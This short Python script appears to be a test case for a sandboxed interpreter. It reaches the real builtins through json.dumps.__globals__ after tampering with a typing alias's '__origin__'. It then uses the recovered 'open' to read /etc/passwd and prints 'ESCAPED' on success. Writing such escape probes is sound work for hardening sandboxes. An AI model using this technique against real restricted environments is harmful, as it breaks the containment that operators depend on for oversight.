# tries: the origin of an alias written
# class: writer
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import json
import typing

alias = typing.List[int]
object.__setattr__(alias, "__origin__", json.dumps)
use(dig(alias._name and json.dumps.__globals__))
